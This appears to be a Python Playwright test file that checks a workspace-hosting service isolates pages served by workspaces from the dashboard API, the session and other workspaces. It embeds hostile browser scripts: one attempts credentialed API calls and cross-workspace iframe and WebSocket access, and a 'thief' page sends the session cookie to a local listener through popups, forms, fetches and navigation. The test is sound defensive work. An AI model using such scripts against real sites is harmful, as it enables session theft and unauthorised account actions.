"""A page served by a workspace, in a real browser: it reaches neither the API nor the session nor another workspace."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import hashlib
import re
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest
from playwright.async_api import BrowserContext, Page, expect

from codehub.adapters.postgres.pool import Database
from testing.codehub.api import until
from testing.codehub.proxy_access import World, world
from testing.codehub.rawhttp import Peer

pytestmark = pytest.mark.full_chromium


async def sign_in(here: World, context: BrowserContext) -> None:
    """As after signing in at the dashboard."""
    secret = here.owner.cookies["session"]
    await context.add_cookies([{"name": "session", "value": secret, "url": here.settings.public_url}])
    page = await context.new_page()
    await page.goto(f"{here.settings.public_url}/health")
    key = here.owner.headers["X-CodeHub-Session-Key"]
    await page.evaluate("key => localStorage.setItem('codehub.session_key', key)", key)
    await page.close()


HOSTILE = """<!doctype html><title>hostile</title><script>
async function attempt(work) { try { return await work(); } catch (error) { return "failed"; } }
(async () => {
  if (self !== top) return;
  const api = "%(api)s", other = "%(other)s";
  const seen = {};
  seen.api = await attempt(async () => (await fetch(api + "/api/v1/session", {credentials: "include"})).status);
  seen.change = await attempt(async () => (await fetch(api + "/api/v1/workspaces", {method: "POST", credentials: "include",
    headers: {"Content-Type": "application/json"}, body: '{"name": "evil"}'})).status);
  document.cookie = "own=1";
  seen.cookies = document.cookie;
  seen.other = await attempt(async () => (await fetch(other + "fetched", {credentials: "include"})).status);
  seen.frame = await attempt(() => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.onload = () => { try { done(frame.contentDocument ? "read" : "failed"); } catch { done("failed"); } };
    frame.src = other + "framed"; document.body.append(frame);
  }));
  seen.socket = await attempt(() => new Promise((done) => {
    const socket = new WebSocket(other.replace("http", "ws") + "socket");
    socket.onopen = () => done("open"); socket.onerror = () => done("failed");
  }));
  document.title = JSON.stringify(seen);
})();
</script><body></body>"""


OWN = """async () => {
  const key = localStorage.getItem("codehub.session_key");
  const headers = {"Content-Type": "application/json", "X-CodeHub-Session-Key": key};
  const options = {credentials: "include", headers};
  const read = await fetch("/api/v1/session", options);
  const made = await fetch("/api/v1/workspaces", {method: "POST", body: '{"name": "evil", "start": false}', ...options});
  return [read.status, made.status];
}"""
SWITCH = (
    b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Accept: %b\r\n\r\n"
)


async def attempted(page: Page, address: str) -> dict[str, Any]:
    """Open the hostile page and return what it could do."""
    await page.goto(address)
    await expect(page).to_have_title(re.compile(r"\{.*\}$"))
    seen: dict[str, Any] = await page.evaluate("JSON.parse(document.title.replace(/^.* · /, ''))")
    return seen


async def named(database: Database, name: str) -> int:
    async with database.transaction() as tx:
        row = await (await tx.execute("SELECT count(*) AS n FROM workspaces WHERE name = %s", [name])).fetchone()
    assert row is not None
    return int(row["n"])


@pytest.mark.timeout(300)
async def test_a_hostile_page_reaches_neither_the_api_nor_the_session_nor_another_workspace(
    database: Database, browser_context: BrowserContext
) -> None:
    page = await browser_context.new_page()  # what an IDE logs in its console is its own business
    # Below one site, as the hosts of a real domain: browsers send cookies from one to the other.
    async with world(database, for_browsers=True, host_pattern="*.codehub.localhost") as here:
        one, other = await here.workspace(), await here.workspace()
        address = f"http://{here.authority(other)}/w/{other}/"
        body = (HOSTILE % {"api": here.settings.public_url, "other": address}).encode()

        asked: list[str] = []

        def hostile(peer: Peer) -> None:
            while True:
                request = peer.read_message()
                asked.append(request.start.split()[1])
                if asked[-1] == "/socket":
                    proof = f"{request.get('Sec-WebSocket-Key')}258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
                    peer.send(SWITCH % base64.b64encode(hashlib.sha1(proof.encode()).digest()))
                    return
                peer.send(
                    b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n" % len(body) + body
                )

        here.upstream.script = hostile
        await sign_in(here, browser_context)
        # The victim has the other workspace open too. As the other workspace's own page, this one reaches it in every way.
        seen = await attempted(page, address)
        assert (seen["other"], seen["frame"], seen["socket"]) == (200, "read", "open"), seen
        assert {"/", "/fetched", "/framed", "/socket"} <= set(asked)
        asked.clear()
        seen = await attempted(page, f"http://{here.authority(one)}/w/{one}/")
        assert seen["api"] == seen["change"] == seen["other"] == seen["frame"] == seen["socket"] == "failed", seen
        # The page is served. What a browser only hides from the page never reached the other workspace either.
        assert set(asked) == {"/"}
        assert seen["cookies"] == "own=1"
        assert await named(database, "evil") == 0
        # The dashboard's own page can do both, with the session's second half.
        await page.goto(f"{here.settings.public_url}/health")
        assert await page.evaluate(OWN) == [200, 201]
        assert await named(database, "evil") == 1


KEY = "localStorage.getItem('codehub.session_key')"
TRIED = {"/popup", "/frame", "/form", "/socket", "/fetch", "/navigation"}
THIEF = """<!doctype html><title>thief</title><body><script>
const to = "%(listener)s";
open(to + "/popup");
const frame = document.createElement("iframe"); frame.src = to + "/frame"; document.body.append(frame);
const form = document.createElement("form");
form.action = to + "/form"; form.method = "post"; form.target = "_blank"; document.body.append(form); form.submit();
try { new WebSocket(to.replace("http", "ws") + "/socket"); } catch {}
fetch(to + "/fetch", {credentials: "include", mode: "no-cors"}).finally(() => { location = to + "/navigation"; });
</script></body>"""


@contextlib.asynccontextmanager
async def listener() -> AsyncIterator[tuple[str, dict[str, str]]]:
    """A program on another port of the dashboard's host: its address, and what it heard, by path."""
    heard: dict[str, str] = {}

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(asyncio.IncompleteReadError, OSError):
            head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
            heard[head.split()[1]] = head
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
            await writer.drain()
        writer.close()

    async with await asyncio.start_server(answer, "127.0.0.1", 0) as server:
        yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}", heard


@pytest.mark.timeout(300)
@pytest.mark.parametrize("host_pattern", ["", "*.localhost"], ids=["path mode", "host mode"])
async def test_what_a_listener_beside_the_dashboard_hears_opens_nothing(
    database: Database, browser_context: BrowserContext, host_pattern: str
) -> None:
    """Cookies know no ports: the browser gives the session's to whoever listens on the dashboard's host."""
    async with world(database, for_browsers=True, host_pattern=host_pattern) as here, listener() as (address, heard):
        workspace_id = await here.workspace()
        body = (THIEF % {"listener": address}).encode()

        def thief(peer: Peer) -> None:
            while True:
                peer.read_message()
                peer.send(
                    b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n" % len(body) + body
                )

        here.upstream.script = thief
        await sign_in(here, browser_context)
        page = await browser_context.new_page()
        await page.goto(f"http://{here.authority(workspace_id)}/w/{workspace_id}/")
        await page.wait_for_url(f"{address}/navigation")
        await until(lambda: heard.keys() >= TRIED)
        secret, key = here.owner.cookies["session"], here.owner.headers["X-CodeHub-Session-Key"]
        stolen = [path for path, head in heard.items() if f"session={secret}" in head]
        assert "/navigation" in stolen, (
            "the browser gives the cookie away; if it did not, this test would show nothing"
        )
        assert not any(key in head for head in heard.values())
        assert await page.evaluate(KEY) is None
        await page.goto(f"{here.settings.public_url}/health")
        assert await page.evaluate(KEY) == key, (
            "the dashboard's own pages have it; otherwise this test would show nothing"
        )
        with_cookie = {"Cookie": f"session={secret}"}
        async with httpx.AsyncClient(base_url=here.settings.public_url, headers=with_cookie) as stranger:
            for path in ("session", "workspaces", "tokens", "events", "sessions"):
                assert (await stranger.get(f"/api/v1/{path}")).status_code == 401, path
            assert (await stranger.post("/api/v1/tokens", json={"name": "for ever"})).status_code == 401
            ticket = {"nonce": "0" * 64, "next": ""}
            opened = await stranger.post(f"/api/v1/workspaces/{workspace_id}/handover", json=ticket)
            assert opened.status_code == 401
            page_of = await stranger.get(f"/handover/{workspace_id}?nonce={'0' * 64}")
            assert "codehub_ticket" not in page_of.text
            # With the key, the same cookie opens all of them.
            stranger.headers["X-CodeHub-Session-Key"] = key
            for path in ("session", "workspaces", "tokens", "sessions"):
                assert (await stranger.get(f"/api/v1/{path}")).status_code == 200, path
            async with stranger.stream("GET", "/api/v1/events") as events:
                assert events.status_code == 200
            opened = await stranger.post(f"/api/v1/workspaces/{workspace_id}/handover", json=ticket)
            assert "codehub_ticket" in opened.json()["url"]
